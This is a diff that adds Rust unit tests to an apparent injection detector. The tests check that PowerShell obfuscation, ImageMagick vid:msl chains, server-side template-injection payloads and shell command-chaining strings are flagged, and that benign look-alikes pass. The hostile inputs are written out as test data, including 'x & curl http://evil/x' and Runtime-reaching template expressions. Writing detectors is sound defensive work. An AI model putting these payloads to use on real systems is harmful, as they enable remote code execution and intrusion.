@@ -3293,3 +3293,79 @@ fn pipeline_shown_in_prose() {
         assert!(hit(v), "{v}");
     }
 }
+
+#[test]
+fn powershell_call_on_indexed_variable() {
+    for v in [
+        "; .$env:ComSpec[4,15,25]-join''",
+        "x; &$pshome[4]+$pshome[30]+'x'",
+        ".($env:ComSpec[4,15,25]-join'')",
+        "; ${env:username}",
+        "a;${ENV:COMPUTERNAME}",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "see $env:ComSpec[4] in the docs",
+        "${env:DB_HOST}",
+        "total. $prices[1] each",
+        "a.$b[0]",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn imagemagick_vid_chain() {
+    for v in [
+        "vid:msl:/tmp/php*",
+        "VID:mvg:/tmp/x.mvg",
+        "vid:ephemeral:/tmp/a",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in ["vid:clip.mp4", "vid: /tmp", "video:msl is a format"] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn template_object_graph_walk() {
+    for v in [
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "{{config.__class__.__init__.__globals__}}",
+        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
+        "${T(java.lang.Runtime)}",
+        "#{T(java.lang.ProcessBuilder)}",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "Put your code in __init__.py and the __class__ attribute tells the type",
+        "{{ user.__class__.__name__ }}",
+        "{{ name }} and __init__.__globals__ in prose",
+        "${T(java.util.Date)}",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn noun_after_ampersand() {
+    for v in [
+        "fork & knife",
+        "salt & knife",
+        "knife & fork",
+        "bread & java",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "x & curl http://evil/x",
+        "a;knife",
+        "fork && knife",
+        "fork & whoami",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
